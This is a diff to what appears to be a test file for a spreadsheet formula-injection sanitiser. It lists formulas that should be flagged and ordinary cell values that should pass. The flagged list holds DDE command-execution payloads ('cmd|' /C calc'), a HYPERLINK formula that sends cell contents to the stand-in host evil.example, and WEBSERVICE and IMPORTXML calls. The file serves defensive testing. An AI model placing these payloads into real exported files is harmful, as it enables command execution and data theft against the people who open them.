@@ -25,11 +25,15 @@ FORMULAS = [
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "@SUM(A1)", "-2+3",
     "=1+1", "\tSUM(1)", "\r=1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
     "+A1", "-A1*2", "-2+A1", "=", "+Sheet1!A1", "-$B$2", "+ SUM(1)", "+1*2", "-IMPORTXML(CONCAT(A1),\"//a\")",
+    # A bare word before the payload (a defined name to a spreadsheet) does not make a DDE link or a call text.
+    "+ve+cmd|' /C calc'!A0", "-hello+cmd|' /C calc'!A0", "@x+cmd|' /C calc'!A0", '-see+HYPERLINK("http://e.example")',
+    "-1+cmd|'/c calc'!A0 notes", "+note webservice(\"http://e.example\")",
 ]
 ORDINARY = [
     "+44 1632 960123", "-20C freezer", "- see notes", "@home", "+ve", "-5", "+44-20-7946-0958",
     "+44 (0)20 7946 0958", "-1E5", "-2.5", "+1", "@", "-", "+/-5", "- see (notes)", "-5 to -10", "a=b",
     "+ A grade", "-A1 grade", "- ward 3-B2", "Infusion pump", "", "SUM(1,2)", "email@example.org",
+    "- pass|fail noted", "+ve result (see link)", "@ward 3: hyperlink sent",
 ]
 
 
